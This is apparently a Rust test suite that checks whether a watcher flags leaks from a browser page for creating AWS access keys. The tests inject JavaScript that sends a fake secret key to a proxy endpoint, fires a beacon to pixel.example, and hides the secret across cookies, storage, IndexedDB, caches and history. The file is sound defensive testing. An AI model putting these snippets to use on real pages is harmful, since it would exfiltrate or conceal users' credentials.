//! The watchers are awake: what must never happen is made to happen, and found.

use support::{Credentials, Engine, Page, Story};

use crate::steps::type_credentials;
use crate::{Told, on_moto};

pub const STORIES: &[Told] = &[
    on_moto("watch::a_request_elsewhere", a_request_elsewhere),
    on_moto("watch::a_violated_policy", a_violated_policy),
    on_moto("watch::a_loud_console", a_loud_console),
    on_moto("watch::a_secret_sent_and_kept", a_secret_sent_and_kept),
    on_moto("watch::a_secret_left_behind", a_secret_left_behind),
];

fn a_request_elsewhere(story: &Story) {
    story.open().see_heading("Cut an AWS access key, in this tab");
    // The page's policy lets it call AWS; in this story nobody told it to.
    let aws = "https://sts.cn-north-1.amazonaws.com.cn/";
    run(story, &format!("fetch('{aws}', {{ method: 'POST' }}).catch(() => {{}})"));
    story.expect_finding("a request beyond this machine");
    if story.engine() == Engine::Chromium {
        story.expect_finding(&format!("the page tried {aws}"));
    }
}

fn a_violated_policy(story: &Story) {
    story.open().see_heading("Cut an AWS access key, in this tab");
    run(
        story,
        "document.body.append(Object.assign(new Image(), { src: 'https://pixel.example/' }))",
    );
    story.expect_finding("the page's policy was violated");
    story.expect_finding("pixel.example");
}

fn a_loud_console(story: &Story) {
    story.open().see_heading("Cut an AWS access key, in this tab");
    story.browser().go(&story.notepad().loud_url());
    Page::new(story.browser()).button("Complain").click();
    story.expect_finding("said aloud");
    story.expect_finding("thrown aloud");
}

fn a_secret_sent_and_kept(story: &Story) {
    let key = story.watch(Credentials::key(
        "AKIALEAKEDLEAKED1234",
        "leaked/leaked+leaked/leaked+leaked/leak+",
    ));
    type_credentials(&story.open(), &key);
    let endpoint = story.proxy().url();
    let secret = "encodeURIComponent(document.getElementById('secret-access-key').value)";
    run(
        story,
        &format!("fetch('{endpoint}?s=' + {secret}, {{ method: 'POST' }}).catch(() => {{}})"),
    );
    story.expect_finding("a secret is in the request POST");
    story.expect_finding("the endpoint was asked by a query");
    if story.engine() == Engine::Chromium {
        story.expect_finding("a secret is in a request to");
    }
    run(story, &format!("localStorage.setItem('s', {secret})"));
    story.expect_finding("a secret is kept in localStorage");
    story.expect_residue(&["localStorage", "the page's timings"]);
    run(story, "localStorage.removeItem('s'); performance.clearResourceTimings()");
}

/// Wherever a secret could be left, in whichever shape, the search that ends every story finds it.
fn a_secret_left_behind(story: &Story) {
    let key = story.watch(Credentials::key(
        "AKIALEAKEDLEAKED1234",
        "left/left/left+left/left/left+left/left+",
    ));
    let page = story.open();
    type_credentials(&page, &key);
    story.expect_residue(&["the program's memory", "value of input#secret-access-key"]);
    page.field("Secret access key").fill("nothing");
    let plant = "
        const secret = arguments[0];
        document.body.append(new Comment(btoa('a' + secret)));
        document.body.planted = secret;
        document.title = encodeURIComponent(secret);
        history.replaceState({ secret }, '', `#${secret}`);
        window.name = secret.slice(3, 30);
        window.plantedText = [...secret].map((it) => it.charCodeAt(0).toString(16)).join('');
        document.cookie = `s=${btoa(secret)}`;
        sessionStorage.s = secret;
        localStorage.s = secret;
        performance.mark(secret);
        document.querySelector('template').content.append(Object.assign(document.createElement('p'), { title: secret }));
        const request = indexedDB.open('planted', 1);
        request.onupgradeneeded = () => request.result.createObjectStore('s').put(secret, 1);
        return new Promise((done) => {
            request.onsuccess = () => done(request.result.close());
        }).then(() => caches.open('planted')).then((cache) => cache.put('planted', new Response(secret)));";
    story.browser().script(plant, vec![key.secret.clone().into()]).expect("it is planted");
    story.expect_residue(&[
        "the document",
        "planted of body",
        "title of p",
        "the address",
        "the title",
        "history state",
        "window.name",
        "window.plantedText",
        "cookies",
        "localStorage",
        "sessionStorage",
        "the page's timings",
        "the database planted",
        "the cache planted",
    ]);
    run(
        story,
        "document.body.lastChild.remove();
        delete document.body.planted;
        document.title = '';
        history.replaceState(null, '', location.pathname);
        window.name = '';
        delete window.plantedText;
        document.cookie = 's=; max-age=0';
        sessionStorage.clear();
        localStorage.removeItem('s');
        performance.clearMarks();
        document.querySelector('template').content.lastChild.remove();
        return new Promise((done) => {
            indexedDB.deleteDatabase('planted').onsuccess = done;
        }).then(() => caches.delete('planted'));",
    );
}

fn run(story: &Story, script: &str) {
    story.browser().script(script, vec![]).expect("the script runs");
}
